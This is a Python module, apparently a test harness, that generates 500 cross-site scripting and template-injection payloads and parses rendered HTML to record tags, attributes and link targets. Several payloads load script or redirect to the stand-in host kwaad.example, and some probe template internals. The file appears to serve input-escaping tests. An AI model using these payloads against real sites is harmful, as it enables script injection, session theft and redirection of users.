"""500 ways to make a browser run or load something out of what somebody typed."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product

BREAKERS = (
    "", '">', "'>", "</q>", "</dd></dl>", "</textarea>", "</title>", "</option></select>", "-->",
    "]]>", "\\\">", "` ", "&quot;>", "%22%3E", "\x00\">", "\u2028'>", "</a>", "\">\n<", "+ADw-",
)  # fmt: skip
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//kwaad.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "<form action=//kwaad.example><button>Verder</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//kwaad.example'>",
    "<link rel=stylesheet href=//kwaad.example>",
    "<style>@import '//kwaad.example'</style>",
    "<base href=//kwaad.example>",
    "<object data=//kwaad.example></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    " onmouseover=alert(1) style=position:fixed x=",
    "' autofocus onfocus=alert(1) x='",
    "{{ 7 * 7 }}{% include 'login.html' %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>",
)
PAYLOADS = [breaker + vector for vector, breaker in product(VECTORS, BREAKERS)][:500]
assert len(set(PAYLOADS)) == 500


class Shape(HTMLParser):
    """What a browser would make of a page, without its words: tags, attributes, where they lead."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.leads: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        named = {name: value or "" for name, value in attrs}
        self.leads += [named[n] for n in ("href", "src", "action") if n in named]

    def handle_decl(self, decl: str) -> None:
        self.tags.append((decl, ()))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", ()))
